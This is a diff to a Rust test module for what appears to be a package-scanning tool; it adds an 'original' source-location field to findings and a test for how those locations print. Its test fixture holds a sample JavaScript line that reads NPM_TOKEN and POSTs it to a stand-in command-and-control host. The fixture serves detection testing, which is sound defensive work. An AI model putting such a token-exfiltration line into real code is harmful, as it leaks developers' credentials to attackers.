@@ -8,8 +8,8 @@ use expect_test::{Expect, expect};
 
 use super::*;
 use crate::report::{
-    Capability, CapabilityUse, Confidence, Effect, EffectKind, Evidence, Finding, Issue, IssueKind, Position, Range,
-    Reach, Report, SCHEMA_VERSION, Stats, Summary, Suppressed, Tool, Verdict,
+    Capability, CapabilityUse, Confidence, Effect, EffectKind, Evidence, Finding, Issue, IssueKind, Original, Position,
+    Range, Reach, Report, SCHEMA_VERSION, Stats, Summary, Suppressed, Tool, Verdict,
 };
 
 const SOURCE: &str = "const os = require('os');\nconst token = process.env.NPM_TOKEN;\n\nfetch('https://c2.example.invalid', { method: 'POST', body: token });\n";
@@ -38,6 +38,7 @@ fn step(file: &str, range: Range, note: &str) -> Evidence {
         range,
         note: note.to_owned(),
         layer: None,
+        original: None,
     }
 }
 
@@ -61,7 +62,28 @@ fn finding() -> Finding {
             step("lib/index.js", sent, "and leaves the machine here"),
         ],
         suppressed: None,
+        original: None,
     }
+}
+
+fn claim(file: &str, line: Option<u32>) -> Original {
+    Original {
+        file: file.to_owned(),
+        line,
+        character: line.map(|_| 4),
+        name: None,
+    }
+}
+
+#[test]
+fn the_original_place_stands_beside_the_place() {
+    let mut finding = finding();
+    finding.evidence[0].original = Some(claim("src/read.ts", None));
+    finding.evidence[1].original = Some(claim("src/send.ts", Some(11)));
+    finding.evidence[1].file = "lib/other.js".to_owned();
+    let text = package(&report(vec![finding]), &Sources::new(), &Look::default());
+    assert!(text.contains(" (src/read.ts)\n"), "{text}");
+    assert!(text.contains(" (src/send.ts:12:5)\n"), "{text}");
 }
 
 fn power(capability: Capability, reach: Reach) -> CapabilityUse {
@@ -76,6 +98,7 @@ fn power(capability: Capability, reach: Reach) -> CapabilityUse {
         commands: Vec::new(),
         variables: Vec::new(),
         via: None,
+        original: None,
     }
 }
 
@@ -277,6 +300,8 @@ fn nothing_from_a_package_reaches_the_terminal_as_it_is() {
     finding.file = hostile.to_owned();
     finding.evidence[0].note.push_str(hostile);
     finding.evidence[1].file = format!("b{hostile}");
+    finding.original = Some(claim(hostile, None));
+    finding.evidence[1].original = Some(claim(hostile, Some(3)));
     let mut report = report(vec![
         Finding {
             suppressed: Some(Suppressed {
